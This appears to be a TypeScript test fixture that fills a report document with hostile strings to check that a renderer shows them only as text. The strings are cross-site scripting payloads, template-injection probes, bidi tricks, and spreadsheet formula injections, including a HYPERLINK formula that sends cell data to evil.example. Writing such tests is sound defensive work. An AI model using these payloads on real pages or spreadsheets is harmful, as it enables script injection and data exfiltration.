import type {AppendixClaim, ReportDocument, TableView} from '../../src/notebook/document.ts';
import {sampleDocument} from './sample-document.ts';

/** What hostile rows may hold; each must reach a page as mere text. */
export const ATTACKS = [
  '<script>window.hacked = 1</script>',
  '"><img src=x onerror="window.hacked=1">',
  "' onmouseover='window.hacked=1",
  '</script><script>window.hacked=1</script>',
  '</style><svg onload=window.hacked=1>',
  '<!-- <script>',
  ']]><b>',
  'javascript:window.hacked=1',
  'data:text/html,<script>window.hacked=1</script>',
  'abc\u202egnirts\u202c\u2066x\u2069',
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1+cmd|calc',
  '@SUM(1)',
  '\tTAB',
  'line\u2028separator\u0000nul\ud800lone',
  '${window.hacked=1}{{7*7}}',
  'W'.repeat(3000),
] as const;

const both = (text: string) => ({en: text, ar: text});

/** The sample with attacks in every text that may come from a table. */
export function attackDocument(): ReportDocument {
  const sample = sampleDocument();
  const all = ATTACKS.join(' ');
  return {
    ...sample,
    name: 'attack',
    title: both(`Title ${all}`),
    subtitle: both(all),
    params: [{name: 'from"><script>', label: both(all), value: all}],
    rules: [{name: 'about', option: all, wording: both(all)}],
    reads: [{table: all, path: all, rows: 1, sha256: all}],
    groups: [{id: 'g1', label: both(all), events: ['"><script>'], claims: ATTACKS.map(claimId)}],
    events: sample.events.map((event) => ({
      ...event,
      id: '"><script>',
      kind: all,
      direction: all,
      regions: [both(all)],
      route: both(all),
      figures: {[ATTACKS[1]]: {low: 1, best: 1, high: 1}},
      claims: ATTACKS.map(claimId),
    })),
    claims: ATTACKS.map((text, index) => attackClaim(text, index, sample)),
    versions: [{name: all, version: all}],
    licences: [{title: all, path: 'javascript:window.hacked=1'}],
    cells: [...attackCells(all), ...sample.cells],
  };
}

function claimId(text: string, index: number): string {
  return `claim ${index} ${text.slice(0, 40)}`;
}

function attackClaim(text: string, index: number, sample: ReportDocument): AppendixClaim {
  const [claim] = sample.claims;
  if (claim === undefined) throw new Error('the sample has a claim');
  return {
    ...claim,
    id: claimId(text, index),
    articleId: `article ${text}`,
    event: '"><script>',
    outlet: both(text),
    period: text,
    published: text,
    measure: text,
    qualifier: text,
    region: both(text),
    attributedTo: {en: text, ar: text},
    url: text,
    gist: index === 0 ? 'g'.repeat(1_000_000) : text,
    note: text,
  };
}

function attackCells(all: string): ReportDocument['cells'] {
  const data: TableView = {
    columns: [
      {name: 'text"><script>', label: both(all), type: 'text'},
      {name: 'url', label: both('url'), type: 'url'},
      {name: 'events', label: both('events'), type: 'events'},
      {name: 'month', label: both('month'), type: 'month'},
    ],
    rows: ATTACKS.map((text) => ({
      'text"><script>': text,
      url: text,
      events: text,
      month: text,
    })),
  };
  return [
    {
      source: `// ${all}`,
      output: {
        kind: 'table',
        anchor: 'attacks',
        title: both(all),
        note: both(all),
        data,
        folded: true,
      },
    },
    {
      source: '',
      output: {
        kind: 'text',
        markdown: both(
          `${all}\n\n[click](javascript:window.hacked=1) ![p](https://evil.example/p.png) [x](data:text/html,x) <b onclick="window.hacked=1">b</b> [ok](https://example.org/"onmouseover="window.hacked=1)`,
        ),
      },
    },
  ];
}
